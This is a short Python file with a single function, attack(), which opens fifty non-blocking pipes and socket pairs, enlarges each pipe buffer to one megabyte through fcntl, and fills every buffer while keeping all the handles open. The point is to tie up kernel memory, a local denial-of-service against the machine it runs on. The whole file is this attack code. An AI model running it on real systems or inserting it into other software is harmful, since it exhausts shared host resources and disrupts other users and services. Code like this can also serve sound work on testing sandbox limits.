import fcntl
import os
import socket


def attack():
    taken = []
    for _ in range(50):
        ends = os.pipe2(os.O_NONBLOCK)
        fcntl.fcntl(ends[1], 1031, 1 << 20)
        pair = socket.socketpair()
        for end in pair:
            end.setblocking(False)
        taken.append((ends, pair))
        for write in (lambda: os.write(ends[1], bytes(1 << 20)), lambda: pair[0].send(bytes(1 << 18))):
            try:
                while write():
                    pass
            except OSError:
                pass
